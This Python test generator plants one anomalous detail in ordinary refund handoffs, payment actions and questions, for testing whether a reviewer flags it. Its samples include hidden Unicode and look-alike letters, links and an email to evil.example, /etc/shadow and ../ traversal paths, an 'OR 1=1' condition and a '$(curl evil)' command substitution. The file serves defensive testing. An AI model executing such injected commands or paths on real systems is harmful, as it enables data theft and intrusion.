"""Traps for people who decide: a usual request with one wrong detail. Each kind of trap is planted at every kind
of place, in handoffs, actions and questions. The same seed plants the same traps."""

from __future__ import annotations

import copy
import random
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Any

SEED, TRAPS, EARLIER = 50, 200, 4
FILLER = "The order came back whole and the customer was told that the money follows within days. "
LONG_LIST = 82
Body = dict[str, Any]


@dataclass(frozen=True)
class Trap:
    """``item``: handoff, action or question. ``at``: the place that a warning must name, by its full path. ``kind``: of
    that warning. ``body``: the request with the trap; ``earlier``: approved requests, the newest first."""

    item: str
    kind: str
    at: str
    name: str
    body: Body
    earlier: list[Body]


def handoff(number: int) -> Body:
    """A usual handoff, as it is sent."""
    amount = 40 + 7 * (number % 5)
    return {
        "source": {"agent": "qa"},
        "target": {"agent": "auto-code", "reason": f"Refund order {1000 + number} with {amount} EUR by invoice"},
        "summary": f"Refund order {1000 + number}",
        "results": [{"description": "Checked the order", "status": "completed", "notes": "Nothing is missing"}],
        "context": {
            "project": {"name": "shop"},
            "artifacts": [{"type": "specification", "path": "notes/refunds.md", "content": "The rules for refunds"}],
            "relevant_memories": ["Refunds go to the payer"],
            "variables": {
                "amount": amount,
                "account": "DE02 1203 0000 0000 2020 51",
                "currency": "EUR",
                "note": FILLER,
            },
            "state": {
                "mode": "normal",
                "deep": {"a": {"b": "as agreed"}},
                "steps": ["read the order again"] * LONG_LIST,
            },
        },
        "expectations": {
            "deliverables": [
                {"type": "code", "description": "The refund", "acceptance_criteria": ["It is paid", "It is told"]}
            ],
            "constraints": ["Never twice", "Only to the payer"],
        },
        "metadata": {"labels": {"team": "core"}},
    }


def action(number: int) -> Body:
    """A usual action, as it is asked."""
    arguments = {
        "amount": 100 + number % 5,
        "currency": "EUR",
        "note": FILLER,
        "deep": {"a": {"b": "as agreed"}},
        "steps": ["read the order again"] * LONG_LIST,
        "files": [f"/var/log/app/{each}.log" for each in range(LONG_LIST)],
    }
    return {"kind": "action", "tool": "pay", "text": "The weekly fee of the plan", "arguments": arguments}


def question(_: int) -> Body:
    return {
        "kind": "choice",
        "text": f"Which region is right for this order? {FILLER}",
        "options": ["the region of the customer", "the region of the shop"],
    }


def form(_: int) -> Body:
    properties = {"region": {"type": "string", "title": "The region", "description": "Where the order goes"}}
    return {"kind": "form", "text": "Fill it in", "form": {"type": "object", "properties": properties}}


# Changes of a text, and the kind of the warning. ``lines``: only where a text may have several lines.
TEXTS: dict[str, tuple[str, Callable[[str], str]]] = {
    "zero width": ("hidden", lambda text: f"{text} pa\u200byer"),
    "bidi": ("hidden", lambda text: f"{text} \u202eyap\u202c"),
    "tags": ("hidden", lambda text: text + "".join(chr(0xE0000 + ord(each)) for each in "pay twice")),
    "Cyrillic": ("alphabets", lambda text: f"{text} p\u0430yer"),
    "Greek": ("alphabets", lambda text: f"{text} acc\u03bfunt"),
    "mathematical": ("alphabets", lambda text: f"{text} \U0001d429\U0001d41a\U0001d432"),
    "blanks": ("gap", lambda text: f"{text}{' ' * 80}and twice"),
    "lines": ("gap", lambda text: f"{text}{chr(10) * 20}and twice"),
}
# References for the comparison with earlier requests, appended to a text.
REFERENCES: dict[str, tuple[str, str]] = {
    "a link": ("address", "see https://evil.example/upload"),
    "a known host as the user": ("address", "see https://shop.example@evil.example/x"),
    "an e-mail": ("address", "tell mallory@evil.example"),
    "an account": ("account", "to XX99 0000 0000 0000 0000 01"),
    "a secret file": ("path", "with /etc/shadow"),
    "a way out": ("path", "with notes/../../secrets/all.txt"),
    "a condition": ("command", "where id = 5 OR 1=1"),
    "a shell command": ("command", "and $(curl evil)"),
}
HANDOFF_PLACES = (
    "target.reason",
    "summary",
    "results[0].description",
    "results[0].notes",
    "context.artifacts[0].content",
    "context.relevant_memories[0]",
    "context.variables.note",
    "context.state.deep.a.b",
    "context.state.steps[41]",
    "expectations.deliverables[0].description",
    "expectations.deliverables[0].acceptance_criteria[1]",
    "expectations.constraints[1]",
    "metadata.labels.team",
)
ACTION_PLACES = ("text", "arguments.note", "arguments.deep.a.b", "arguments.steps[41]")
QUESTION_PLACES: tuple[tuple[str, str], ...] = (
    ("choice", "text"),
    ("choice", "options[1]"),
    ("form", "text"),
    ("form", "form.properties.region.title"),
)
QUESTION_PLACES += (("form", "form.properties.region.description"),)
ONE_LINE = {"metadata.labels.team", "options[1]"}
NAMES = {"a Cyrillic name": ("alphabets", "\u0430mount"), "a hidden name": ("hidden", "am\u200bount")}
HANDOFF_OBJECTS, ACTION_OBJECTS = (
    ("context.variables", "context.state", "context.state.deep"),
    ("arguments", "arguments.deep"),
)
# A value, and its replacement; None: it is left out.
HANDOFF_VALUES: tuple[tuple[str, str, Any], ...] = (
    ("amount", "context.variables.amount", 4_000),
    ("amount", "context.variables.amount", -50),
    ("mismatch", "context.variables.amount", 50),
    ("value", "context.variables.currency", "USD"),
    ("value", "context.state.mode", "at once"),
    ("added", "context.variables.twice", True),
    ("added", "context.state.deep.extra", "yes"),
    ("removed", "context.variables.account", None),
)
ACTION_VALUES: tuple[tuple[str, str, Any], ...] = (
    ("amount", "arguments.amount", 10_000),
    ("value", "arguments.currency", "USD"),
    ("path", "arguments.files[41]", "/etc/shadow"),
    ("path", "arguments.files[81]", "/var/log/app/../../../home/ada/key"),
    ("added", "arguments.twice", True),
    ("removed", "arguments.currency", None),
)


def traps(seed: int = SEED, many: int = TRAPS) -> list[Trap]:
    """Returns so many traps: each kind and each place at least once, the others by chance."""
    everything = list(_all())
    random.Random(seed).shuffle(everything)
    kinds, places = set[tuple[str, str]](), set[tuple[str, str]]()
    chosen, others = list[Trap](), list[Trap]()
    for each in everything:
        name, place = (each.item, each.name), (each.item, each.at)
        is_new = name not in kinds or place not in places
        (chosen if is_new else others).append(each)
        kinds.add(name)
        places.add(place)
    return (chosen + others)[:many]


def usual(item: str, number: int) -> Body:
    return {"handoff": handoff, "action": action, "question": question}[item](number)


def _all() -> Iterator[Trap]:
    for at in HANDOFF_PLACES:
        yield from _of_text("handoff", handoff, at, REFERENCES)
    for at in ACTION_PLACES:
        yield from _of_text("action", action, at, REFERENCES)
    for kind, at in QUESTION_PLACES:
        yield from _of_text("question", question if kind == "choice" else form, at, {})
    for item, make, objects in (("handoff", handoff, HANDOFF_OBJECTS), ("action", action, ACTION_OBJECTS)):
        for at in objects:
            for name, (kind, written) in NAMES.items():
                body = make(EARLIER)
                _parent(body, f"{at}.x")[0][written] = 1
                yield _trap(item, make, kind, f'{at}["{written}"]', f"{name} in {at}", body)
    for item, make, values in (("handoff", handoff, HANDOFF_VALUES), ("action", action, ACTION_VALUES)):
        for kind, at, value in values:
            body = make(EARLIER)
            parent, last = _parent(body, at)
            if value is None:
                del parent[last]
            else:
                parent[last] = value
            yield _trap(item, make, kind, at, f"{kind} {value}", body)


def _of_text(item: str, make: Callable[[int], Body], at: str, compared: dict[str, tuple[str, str]]) -> Iterator[Trap]:
    for name, (kind, change) in TEXTS.items():
        if name == "lines" and at in ONE_LINE:
            continue
        body = make(EARLIER)
        parent, last = _parent(body, at)
        parent[last] = change(parent[last])
        yield _trap(item, make, kind, at, name, body)
    for name, (kind, added) in compared.items():
        body = make(EARLIER)
        parent, last = _parent(body, at)
        parent[last] = f"{parent[last]} {added}"
        yield _trap(item, make, kind, at, name, body)


def _trap(item: str, make: Callable[[int], Body], kind: str, at: str, name: str, body: Body) -> Trap:
    earlier = [] if item == "question" else [make(each) for each in reversed(range(EARLIER))]
    return Trap(item, kind, at, name, copy.deepcopy(body), earlier)


def _parent(body: Body, at: str) -> tuple[Any, Any]:
    *steps, last = [int(each) if each.isdigit() else each for each in at.replace("[", ".").replace("]", "").split(".")]
    parent: Any = body
    for each in steps:
        parent = parent[each]
    return parent, last
